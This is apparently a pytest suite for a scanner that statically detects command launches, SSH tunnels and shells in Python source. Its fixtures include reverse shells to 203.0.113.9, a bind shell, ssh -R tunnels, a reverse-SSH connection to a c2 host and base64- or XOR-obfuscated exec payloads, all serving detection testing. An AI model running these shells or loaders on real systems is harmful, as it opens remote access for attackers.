"""Python read for what it starts and what it forwards: nothing of it is run, and nothing hostile stalls or breaks the reader."""

import base64
import zlib
from collections.abc import Iterator
from time import perf_counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.content import Content
from scanner.content.worker import Worker
from scanner.detectors.launchers import python
from scanner.detectors.launchers.python import PythonFacts, library, python_facts, read
from scanner.model import Level, Limits

SSH = ("ssh", "-N", "-R", "8022:localhost:22", "u@h.example.com")
LINE = "ssh -N -R 8022:localhost:22 u@h.example.com"


def b64(source: str) -> str:
    return base64.b64encode(source.encode()).decode()


def facts(data: bytes, worker: Worker | None, path: bytes = b"opt/app/run.py") -> PythonFacts:
    return python_facts(Content(path=path, data=memoryview(data), worker=worker))


ARGV = [
    ("import subprocess\nsubprocess.run(['ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com'])", 2),
    ("import subprocess as sp\nsp.Popen(args=('ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com'))", 2),
    ("from subprocess import check_call as go\n\ngo('ssh -N -R 8022:localhost:22 u@h.example.com'.split())", 3),
    ("import shlex, subprocess\nsubprocess.call(shlex.split('ssh -N -R 8022:localhost:22 \"u@h.example.com\"'))", 2),
    (
        (
            "from subprocess import *\nport = 8022\nhost = 'h.example.com'\n"
            "call(['ssh', '-N', '-R', f'{port}:localhost:22', 'u@' + host])"
        ),
        4,
    ),
    (
        (
            "import os\nto = '%d:%s:%d' % (8022, 'localhost', 22)\n"
            "os.execvp('ssh', ['ssh', '-N', '-R', to, '{}@{h}'.format('u', h='h.example.com')])"
        ),
        3,
    ),
    ("import os\nos.execlp('ssh', 'ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com')", 2),
    ("import os\nos.spawnvp(os.P_NOWAIT, 'ssh', ['x', '-N', '-R', '8022:localhost:22', 'u@h.example.com'])", 2),
    ("import os\nos.spawnle(1, 'ssh', 'x', '-N', '-R', '8022:localhost:22', 'u@h.example.com', {})", 2),
    ("import os\nos.posix_spawnp('ssh', ['ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com'], {})", 2),
    ("import pty\npty.spawn(['ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com'])", 2),
    ("import pexpect\npexpect.spawn('ssh -N -R 8022:localhost:22 u@h.example.com', timeout=9)", 2),
    ("import pexpect\npexpect.spawn('ssh', ['-N', '-R', '8022:localhost:22', 'u@h.example.com'])", 2),
    (
        (
            "import asyncio\nasync def main():\n"
            "    await asyncio.create_subprocess_exec('ssh', '-N', '-R', '8022:localhost:22', 'u@h.example.com')"
        ),
        3,
    ),
    ("import sh\nsh.ssh('-N', '-R', '8022:localhost:22', 'u@h.example.com')", 2),
    ("from sh import ssh\nssh.bake('-N')('-R', '8022:localhost:22', 'u@h.example.com')", 2),
    ("import sh\nsh.Command('ssh')('-N', '-R', '8022:localhost:22', 'u@h.example.com')", 2),
    ("from plumbum.cmd import ssh\nssh['-N', '-R', '8022:localhost:22', 'u@h.example.com']()", 2),
    ("from plumbum import local\nlocal['ssh']['-N']['-R', '8022:localhost:22']('u@h.example.com')", 2),
    (
        (
            "import subprocess\nclass T:\n    HOST = 'h.example.com'\n    def go(self):\n        cmd = ['ssh', '-N']\n"
            "        cmd += ['-R']\n        cmd.append('8022:localhost:22')\n        cmd.extend(['u@' + self.HOST])\n"
            "        subprocess.run(cmd, check=True)"
        ),
        9,
    ),
    (
        (
            "import os, subprocess\nhost = os.environ.get('H', 'h.example.com')\nopts = ('-N', '-R')\n"
            "subprocess.run(['ssh', *opts, ':'.join(['8022', 'localhost', '22'])] + [f'u@{host}'])"
        ),
        4,
    ),
    (
        (
            "import threading, subprocess\nthreading.Thread(target=subprocess.call, args=(['ssh', '-N', '-R', "
            "'8022:localhost:22', 'u@h.example.com'],)).start()"
        ),
        2,
    ),
    ("__import__('subprocess').run(('ssh -N -R 8022:localhost:22 ' + 'u@h.example.com').split(' '))", 1),
    ("import os\ngetattr(os, 'exec' + 'vp')('ssh', 'ssh -N -R 8022:localhost:22 u@h.example.com'.split())", 2),
]


@pytest.mark.parametrize(("source", "line"), ARGV)
def test_a_program_is_named_with_its_arguments_and_line(source: str, line: int) -> None:
    found = read(source)

    assert [(c.argv, c.line) for c in found.commands if len(c.argv) > 2] == [(SSH, line)]
    assert found.problems == ()


SHELL = [
    (f"import os\nos.system('{LINE}')", 2, "os.system"),
    (f"from os import system as s\ns('{LINE}')", 2, "os.system"),
    (f"import os\nos.popen('''{LINE}''').read()", 2, "os.popen"),
    (f"import subprocess\nsubprocess.run('{LINE}', shell=True)", 2, "subprocess.run"),
    (f"import subprocess\nsubprocess.Popen(['{LINE}'], shell=1)", 2, "subprocess.Popen"),
    (f"import subprocess\nsubprocess.getoutput('{LINE}')", 2, "subprocess.getoutput"),
    (f"import asyncio\nasyncio.run(asyncio.create_subprocess_shell('{LINE}'))", 2, "asyncio.create_subprocess_shell"),
    (f"from invoke import run\nrun('{LINE}')", 2, "invoke.run"),
    (f"import ctypes\nctypes.CDLL(None).system(b'{LINE}')", 2, "ctypes.CDLL.system"),
    (f"import os\nx = lambda: os.system('{LINE}')", 2, "os.system"),
    (f"import os, atexit\natexit.register(os.system, '{LINE}')", 2, "os.system"),
    (f"try:\n    import os\nfinally:\n    if 1:\n        with x: os.system('{LINE}')", 5, "os.system"),
    (f"import os\ndef sh(c, n=1):\n    return os.system(c)\n\nsh('{LINE}')", 5, "os.system"),
    (
        "import os\nclass A:\n    def sh(self, c):\n        os.system(c)\nA().sh(c='x')\ndef f(a):\n    A().sh(a)\n",
        5,
        "",
    ),
]


@pytest.mark.parametrize(("source", "line", "via"), SHELL)
def test_text_for_a_shell_is_told_with_the_line_of_who_says_it(source: str, line: int, via: str) -> None:
    found = [(c.shell, c.line, c.via) for c in read(source).commands if c.shell == LINE]

    assert found == ([(LINE, line, via)] if via else [])


def test_a_function_of_the_file_is_followed_to_every_caller() -> None:
    source = (
        "import os\ndef run(c):\n    os.system(c)\ndef two(h):\n    run('ssh ' + h)\nrun('a b')\ntwo('x')\ntwo('y')\n"
    )

    assert [(c.shell, c.line) for c in read(source).commands] == [("a b", 6), ("ssh x", 7), ("ssh y", 8)]


def test_what_is_not_told_stands_as_a_name() -> None:
    source = (
        "import os, sys, subprocess\nhost = sys.argv[1]\nsubprocess.run(['ssh', '-p', args.port, f'{user}@{host}'])\n"
        "os.system('ssh -D 1080 %s' % os.environ['JUMP'])\nos.system(host)\nsubprocess.run([sys.executable, '-V'])\n"
    )

    found = read(source).commands

    assert [c.argv or c.shell for c in found] == [
        ("ssh", "-p", "$port", "$user@$host"),
        "ssh -D 1080 $JUMP",
        ("python3", "-V"),
    ]


@pytest.mark.parametrize(
    "source",
    [
        "print('os.system(1)')",
        "'''\n>>> os.system('ssh -R 1:a:2 h')\n'''\n# subprocess.run(['ssh'])\nimport subprocess",
        "def system(x): pass\nsystem('ssh h')",
        "import platform\nplatform.system()",
        "pool.run('ssh h')\nself.call(['ssh'])\napp.run('0.0.0.0')",
        "db.execute('exec ssh h')\nre.compile('ssh -R')",
        "import socket\ns = socket.socket()\ns.connect(('h', 1))\ns.bind(('', 80))",
        "import os\nos.dup2(null.fileno(), 0)\nos.system(x)",
    ],
)
def test_what_only_looks_like_starting_something_is_left_alone(source: str) -> None:
    found = read(source)

    assert (found.commands, found.forwards) == ((), ())


PARAMIKO = "import paramiko\nc = paramiko.SSHClient()\nc.connect('s.example.com', 2222, username='bob', password='p')\n"
ASYNCSSH = "import asyncssh\nasync def f():\n    async with asyncssh.connect('s.example.com', 2222, username='bob') as c:\n        "
SERVER = "bob@s.example.com:2222"
FORWARDS = [
    (PARAMIKO + "c.get_transport().request_port_forward('', 8022)", "remote", "", 8022, "", SERVER, 4),
    (
        PARAMIKO + "t = c.get_transport()\nt.request_port_forward('0.0.0.0', port=1)",
        "remote",
        "0.0.0.0",
        1,
        "",
        SERVER,
        5,
    ),
    (
        PARAMIKO + "c.get_transport().open_channel('direct-tcpip', ('db', 5432), ('', 0))",
        "local",
        "db",
        5432,
        "",
        SERVER,
        4,
    ),
    (
        (
            "import paramiko\nt = paramiko.Transport(('s.example.com', 2222))\nt.connect(username='bob')\n"
            "t.open_channel(kind='direct-tcpip', dest_addr=('db', 5432), src_addr=('', 0))"
        ),
        *("local", "db", 5432, "", SERVER, 4),
    ),
    (
        ASYNCSSH + "await c.forward_remote_port('', 9000, 'localhost', 22)",
        "remote",
        "",
        9000,
        "localhost:22",
        SERVER,
        4,
    ),
    (ASYNCSSH + "await c.forward_local_port('', 1, 'db', 5432)", "local", "db", 5432, ":1", SERVER, 4),
    (ASYNCSSH + "await c.forward_socks('127.0.0.1', 1080)", "dynamic", "127.0.0.1", 1080, "", SERVER, 4),
    (ASYNCSSH + "await c.forward_remote_path('/r', '/l')", "remote", "/r", None, "/l", SERVER, 4),
    (ASYNCSSH + "await c.start_server(handle, '', 9000)", "remote", "", 9000, "", SERVER, 4),
    (ASYNCSSH + "await c.open_connection('db', 5432)", "local", "db", 5432, "", SERVER, 4),
    (ASYNCSSH + "await c.forward_tun(0, 0)", "tun", "", None, "", SERVER, 4),
    (
        "import asyncssh\nasyncssh.connect_reverse('c2.example.com', 443)",
        "reverse-ssh",
        "c2.example.com",
        443,
        "",
        "",
        2,
    ),
    (
        (
            "import sshtunnel\nwith sshtunnel.open_tunnel(('s.example.com', 2222), ssh_username='bob', ssh_password='p',\n"
            "        remote_bind_address=('db', 5432), local_bind_address=('0.0.0.0', 1)) as t:\n    pass"
        ),
        *("local", "db", 5432, "0.0.0.0:1", SERVER, 2),
    ),
    (
        (
            "from sshtunnel import SSHTunnelForwarder as F\nF('s.example.com', ssh_port=2222, ssh_username='bob', "
            "remote_bind_address=('db', 5432))"
        ),
        *("local", "db", 5432, "", SERVER, 2),
    ),
    (
        "from fabric import Connection\nwith Connection('bob@s.example.com:2222') as c:\n    with c.forward_remote(8022, 22): 1",
        *("remote", "127.0.0.1", 8022, "localhost:22", SERVER, 3),
    ),
    (
        "from fabric import Connection\nConnection('bob@s.example.com:2222').forward_local(5432, remote_host='db')",
        *("local", "db", 5432, "localhost:5432", SERVER, 2),
    ),
    ("from pyngrok import ngrok\nngrok.connect(22, 'tcp')", "remote", "", 22, "", "", 2),
    ("import ngrok\nngrok.forward('localhost:8080', authtoken='secret')", "remote", "localhost", 8080, "", "", 2),
    ("import gradio as gr\ndemo = gr.Blocks()\ndemo.launch(share=True)", "remote", "", None, "", "", 3),
    (
        (
            "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('203.0.113.9',4242));"
            "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"
        ),
        *("reverse-shell", "203.0.113.9", 4242, "", "", 1),
    ),
    (
        (
            "import socket, pty, os\ns = socket.create_connection(('203.0.113.9', 4242))\n[os.dup2(s.fileno(), f) for f in (0, 1)]\n"
            "pty.spawn('/bin/bash')"
        ),
        *("reverse-shell", "203.0.113.9", 4242, "", "", 2),
    ),
    (
        (
            "from socket import *\nimport subprocess\ns = socket()\ns.connect(('203.0.113.9', 4242))\nwhile 1:\n"
            "    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())"
        ),
        *("reverse-shell", "203.0.113.9", 4242, "", "", 4),
    ),
    (
        (
            "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\n"
            "subprocess.Popen(['/bin/sh'], stdin=c, stdout=c)"
        ),
        *("bind-shell", "0.0.0.0", 4444, "", "", 3),
    ),
]


@pytest.mark.parametrize(("source", "kind", "host", "port", "other", "server", "line"), FORWARDS)
def test_a_forward_is_told_with_both_ends_and_its_server(
    source: str, kind: str, host: str, port: int | None, other: str, server: str, line: int
) -> None:
    [found] = read(source).forwards

    assert (found.kind, found.host, found.port, found.server, found.line) == (kind, host, port, server, line)
    assert found.other == other
    assert found.resolved
    assert "secret" not in repr(found)


def test_objects_made_with_values_carry_them() -> None:
    source = (
        "import paramiko\nclass Tunnel:\n    def __init__(self, host, port=22):\n        self.host, self.port = host, port\n"
        "    def go(self, listen):\n        c = paramiko.SSHClient()\n        c.connect(self.host, self.port, username='bob')\n"
        "        c.get_transport().request_port_forward('', listen)\nTunnel('s.example.com', 2222).go(8022)\n"
    )

    found = read(source)

    assert [(f.port, f.server) for f in found.forwards][-1][1] == SERVER
    assert [(k.host, k.port, k.user, k.library) for k in found.connections] == [
        ("s.example.com", 2222, "bob", "paramiko")
    ]


def test_a_library_that_defines_forwards_is_not_resolved() -> None:
    source = (
        "class Transport:\n    def request_port_forward(self, address, port, handler=None):\n        '''forward'''\n"
        "class Client:\n    def forward(self, addr, port):\n        self._transport.request_port_forward(addr, port)\n"
    )

    [found] = read(source).forwards

    assert not found.resolved


@pytest.mark.parametrize(
    ("path", "name"),
    [
        (b"usr/lib/python3/dist-packages/paramiko/transport.py", "paramiko"),
        (b"opt/venv/lib/python3.12/site-packages/sshtunnel.py", "sshtunnel"),
        (b"usr/lib/python3.11/subprocess.py", "stdlib"),
        (b"usr/lib/python3.11/sitecustomize.py", ""),
        (b"usr/lib/python3/dist-packages/usercustomize.py", ""),
        (b"usr/lib/python3/dist-packages/paramikox/a.py", ""),
        (b"opt/app/paramiko/a.py", ""),
    ],
)
def test_a_known_librarys_own_file_is_flagged(path: bytes, name: str) -> None:
    assert library(path) == name
    assert python_facts(Content(path=path, data=memoryview(b"x = 1"))).library == name


CODE = f"import os\nos.system('{LINE}')\n"


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\n\nexec(base64.b64decode('{b64(CODE)}'))",
        f"import base64\n\nexec(base64.b64decode(b'{b64(CODE)}').decode('utf-8'))",
        f"from base64 import b64decode as d\n\neval(compile(d('{b64(CODE)}'), '<x>', 'exec'))",
        f"import base64, zlib\n\nexec(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(CODE.encode())).decode()}')))",
        f"import codecs\n\nexec(codecs.decode('{CODE.encode().hex()}', 'hex'))",
        f"\n\nexec(bytes.fromhex('{CODE.encode().hex()}'))",
        f"\n\nexec(''.join(chr(c ^ 7) for c in {[ord(c) ^ 7 for c in CODE]}))",
        f"\n\nexec(''.join(map(chr, {[ord(c) for c in CODE]})))",
        f"import base64\nP = '{b64(CODE)[::-1]}'\nexec(base64.b64decode(P[::-1]))",
        f"import base64\n\nexec(__import__('base64').b64decode('{b64(f'exec(__import__({chr(34)}base64{chr(34)}).b64decode({chr(34)}{b64(CODE)}{chr(34)}))')}'))",
        f"import subprocess\n\nsubprocess.run(['python3', '-c', {CODE!r}])",
    ],
)
def test_source_that_hides_in_a_string_is_read(source: str) -> None:
    [found] = [c for c in read(source).commands if c.shell]

    assert (found.shell, found.line, found.encoded) == (LINE, 3, True)


def test_hiding_deeper_than_is_read_is_told() -> None:
    source = CODE
    for _ in range(4):
        source = f"import base64\nexec(base64.b64decode('{b64(source)}'))"

    found = read(source)

    assert found.commands == ()
    assert found.problems == ("source within source, more than 3 deep",)


PYTHON2 = f"""#!/usr/bin/python
import os, commands
try:
    print "starting", 1
    os.chmod('x', 0755)
    os.system('{LINE}')
except OSError, e:
    print >>sys.stderr, e
exec "os.popen('nc h 1')"
"""
NEWER = f"import os\nx = f'{{d['a']}}' if 1 else (yield)\ntype X[T] = list[T]\nbroken (((\nos.system('{LINE}')\n"


def test_python_2_is_read_in_the_form_of_python_3() -> None:
    found = read(PYTHON2)

    assert [(c.shell, c.line) for c in found.commands] == [(LINE, 6), ("nc h 1", 9)]
    assert found.parsed
    assert found.main


def test_source_that_does_not_parse_is_read_call_by_call(worker: Worker) -> None:
    found = facts(NEWER.encode(), worker)

    assert [(c.shell, c.line) for c in found.commands] == [(LINE, 5)]
    assert [n.level for n in found.notes] == [Level.NOTE]


@pytest.mark.parametrize("source", [s for s, *_ in FORWARDS if "def " not in s and "with " not in s])
def test_forwards_are_found_call_by_call_too(source: str) -> None:
    assert {f.kind for f in read(source).forwards} <= {f.kind for f in read(source + "\n?\n").forwards}


def test_lines_of_a_pth_file_that_site_runs_are_read(worker: Worker) -> None:
    text = b"/opt/lib\nos.system('no')\nimport os; os.system('ssh h')\nimportant\nimport\tos, sys; os.popen('x y')\n"

    found = facts(text, worker, b"usr/lib/python3/dist-packages/a.pth")

    assert [(c.shell, c.line) for c in found.commands] == [("ssh h", 3), ("x y", 5)]
    assert found.notes == ()


def test_the_worker_and_this_process_read_the_same(worker: Worker) -> None:
    for source in (PYTHON2, NEWER, CODE, *(s for s, *_ in ARGV), *(s for s, *_ in FORWARDS)):
        assert facts(source.encode(), worker) == facts(source.encode(), None)


def test_odd_encodings_are_read() -> None:
    latin = "# -*- coding: latin-1 -*-\nimport os\nos.system('ssh -R 1:b:2 \xe9')".encode("latin-1")
    broken = b"import os\nx = '\xff\xfe'\nos.system('ssh h')"
    utf7 = b"# coding: utf-7\nimport os\nos.system+ACgAJw-ssh h+ACcAKQ-"

    assert [c.shell for c in facts(latin, None).commands] == ["ssh -R 1:b:2 \xe9"]
    assert [c.shell for c in facts(broken, None).commands] == ["ssh h"]
    assert [c.shell for c in facts(utf7, None).commands] == ["ssh h"]


def test_a_long_file_is_read_call_by_call_and_said_so(worker: Worker) -> None:
    found = facts(b"import os\nH = 'h'\n" + b"# padding\n" * 120_000 + b"os.system('ssh ' + H)\n", worker)

    assert [(c.shell, c.line) for c in found.commands] == [("ssh h", 120_003)]
    assert [n.level for n in found.notes] == [Level.WARNING]


def test_more_than_is_read_at_all_is_told(worker: Worker) -> None:
    found = facts(b"import os\nos.system('ssh h')\n" + b"#" * (17 << 20), worker)

    assert [c.shell for c in found.commands] == ["ssh h"]
    assert any(n.level is Level.WARNING and "only the first" in n.message for n in found.notes)


def test_a_parser_out_of_time_or_memory_leaves_a_warning_and_the_calls() -> None:
    worker = Worker(Limits(native_bytes=40 << 20))
    try:
        found = facts(b"import os\nos.system('ssh h')\n" + b"x = [" + b"a," * 400_000 + b"]\n", worker)
    finally:
        worker.close()

    assert [c.shell for c in found.commands] == ["ssh h"]
    assert [n.level for n in found.notes] == [Level.WARNING]


HOSTILE = {
    "parentheses": b"(" * 100_000,
    "not": b"not " * 100_000 + b"1",
    "minus": b"-" * 100_000 + b"1",
    "digits": b"1" * 900_000,
    "hex": b"0x" + b"f" * 900_000,
    "lambdas": b"lambda:" * 149_000 + b"1",
    "attributes": b"a" + b".b" * 400_000,
    "sum": b"+".join([b"a"] * 400_000),
    "calls": b"a" + b"()" * 400_000,
    "braces": b"{" * 190,
    "conditions": b"1 if 1 else " * 80_000 + b"1",
    "elif": b"if 1:pass\n" + b"elif 1:pass\n" * 70_000,
    "nul": b"\0" * 1000,
    "indents": b"".join(b" " * i + b"if 1:\n" for i in range(120)),
    "doubling": b"a = 'x'\n" + b"a = a + a\n" * 50_000 + b"os.system(a)",
    "doubling lists": b"a = ['x']\n" + b"a = a + a\n" * 50_000 + b"os.system(a)",
    "nested tuples": b"a = ()\n" + b"a = (a,)\n" * 60_000 + b"os.system(a)\ndef f(x): os.system(x)\nf(a)",
    "chained calls": b"x = os" + b".a()" * 35 + b"\n" + b"x" + b".a().b()" * 18 + b".system('x')",
    "exec of exec": b"exec(\"exec('os.system(1)\\n')\")\n" * 20_000,
    "exec of much": b"x = 'a=1;' * 100000\n" + b"exec(x)\n" * 30_000,
    "recursion": b"def f(a):\n    f(a + 'x')\n    os.system(a)\nf('ssh')\n" * 2000,
    "many ways": b"def f(a):\n    os.system(a)\n" + b"".join(b"f('%d')\n" % i for i in range(40_000)),
    "format": b"x = '" + b"{0}" * 90_000 + b"'\n" + b"os.system(x.format(x))\n" * 10_000,
    "percent": b"x = '" + b"%s" * 90_000 + b"'\n" + b"os.system(x % x)\n" * 10_000,
    "split": b"import shlex\nx = '" + b"a " * 300_000 + b"'\n" + b"os.system(shlex.split(x))\n" * 5000,
    "open calls": b"?\n" + b"os.system((((((((((((\n" * 40_000,
    "open strings": b"?\n" + b'run("""' * 100_000,
    "assignments": b"?\n" + b"a=" * 400_000,
    "spaces": b"?\nos.system" + b" " * 900_000,
    "print": b"print " * 150_000,
    "submit": b"submit(" * 180 + b"os.system" + b")" * 180,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_source_stalls_or_breaks_the_reader(worker: Worker, name: str) -> None:
    data = b"import os; os.system('ssh h')\n" + HOSTILE[name]
    began = perf_counter()

    found = facts(data[: 1 << 20], worker)

    assert perf_counter() - began < 60  # seconds even where the machine is busy; the worker's own limit is 20
    assert found.commands or found.notes
    if not found.parsed or found.problems:
        assert found.notes


@given(
    st.lists(
        st.sampled_from(
            "import os;\n|from subprocess import *\n|os.system(|exec(|'ssh -R '|\"|'''|(|)|[|]|{|}|:\n|\n  |\n|=|+=|+|%|f'{a}'|"
            "def f(a):\n  |class A:\n  |a|b.c|.format(|.append(|*|**|,|lambda a:|await |for a in |if |b64decode(|print |\\|\0|#|é|"
            "run(|Popen(|s.connect((|socket.socket()|open_channel(|SSHTunnelForwarder(|0x9|9999999999999999999999|-|[::-1]".split(
                "|"
            )
        ),
        max_size=40,
    )
)
@settings(max_examples=300, deadline=None)
def test_no_text_breaks_the_reader(words: list[str]) -> None:
    text = "import os\nos.system('x')\n" + "".join(words)

    found = read(text)

    lines = text.count("\n") + 1
    assert all(1 <= c.line <= lines for c in (*found.commands, *found.forwards, *found.connections))
    assert len(repr(python.pieces(text.encode("utf-8", "surrogateescape")))) < 1 << 20


@given(st.binary(max_size=400))
@settings(deadline=None)
def test_no_bytes_break_the_reader(data: bytes) -> None:
    facts(data + b" os.system", None)
    facts(b"import os;" + data, None, b"a.pth")


@pytest.fixture(scope="module")
def worker() -> Iterator[Worker]:
    worker = Worker(Limits())
    yield worker
    worker.close()
